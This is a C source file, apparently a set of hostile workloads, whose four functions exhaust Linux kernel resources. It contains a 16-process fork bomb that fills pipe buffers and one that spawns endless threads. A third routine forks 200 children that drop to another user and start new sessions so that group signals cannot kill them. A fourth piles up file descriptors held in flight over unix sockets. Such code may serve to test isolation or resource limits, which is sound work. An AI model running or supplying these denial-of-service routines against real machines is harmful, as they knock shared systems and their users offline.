/* What the kernel holds for programs, as much of it as can be had: each process keeps its share. */
#include "hostile.h"
#include <fcntl.h>
#include <linux/sched.h>
#include <pthread.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BOMB_PROCESSES = 16, PIECE_BYTES = 4096, THREAD_STACK_BYTES = 16384 };

static void copies_make(void)
{
	for (int i = 1; i < BOMB_PROCESSES; i++)
		if (fork() == 0)
			return;
}

/* Not at once again, so that what has been taken stays taken. */
static void rest(void)
{
	const struct timespec nap = {0, 1000000};
	nanosleep(&nap, NULL);
}

void attack_pipes(void)
{
	static const char piece[PIECE_BYTES];
	int ends[2];
	copies_make();
	for (;;) {
		if (pipe2(ends, O_NONBLOCK) < 0) {
			rest();
			continue;
		}
		while (write(ends[1], piece, sizeof piece) > 0)
			;
	}
}

static void *thread_wait(void *argument)
{
	for (;;)
		pause();
	return argument;
}

void attack_threads(void)
{
	pthread_attr_t attributes;
	pthread_t thread;
	pthread_attr_init(&attributes);
	pthread_attr_setstacksize(&attributes, THREAD_STACK_BYTES);
	copies_make();
	for (;;)
		if (pthread_create(&thread, &attributes, thread_wait, NULL) != 0)
			rest();
}

/* One byte, and a descriptor with it. */
static ssize_t descriptor_send(int to, int descriptor)
{
	char byte = 0, control[CMSG_SPACE(sizeof descriptor)] = {0};
	struct iovec part = {&byte, 1};
	struct msghdr message = {.msg_iov = &part,
	                         .msg_iovlen = 1,
	                         .msg_control = control,
	                         .msg_controllen = sizeof control};
	struct cmsghdr *header = CMSG_FIRSTHDR(&message);
	header->cmsg_level = SOL_SOCKET;
	header->cmsg_type = SCM_RIGHTS;
	header->cmsg_len = CMSG_LEN(sizeof descriptor);
	memcpy(CMSG_DATA(header), &descriptor, sizeof descriptor);
	return sendmsg(to, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
}

void attack_sessions(void)
{
	enum { SESSIONS = 200, USER = 1000, LOOKS_APART = 1000000 };
	pid_t leader = getpid();
	for (int i = 0; i < SESSIONS; i++) {
		if (fork() != 0)
			continue;
		if (setuid(USER) < 0 || setsid() < 0)
			_exit(1);
		/* no signal to the leader's group reaches it here */
		while (getppid() == leader)
			for (volatile int spin = 0; spin < LOOKS_APART; spin++)
				;
		_exit(0);
	}
	for (;;)
		pause();
}

void attack_flight(void)
{
	int ends[2] = {-1, -1};
	copies_make();
	for (;;) {
		int file = eventfd(0, 0);
		if (ends[0] < 0 || descriptor_send(ends[0], file) < 0)
			if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) < 0)
				rest();
		(void)close(file);
	}
}
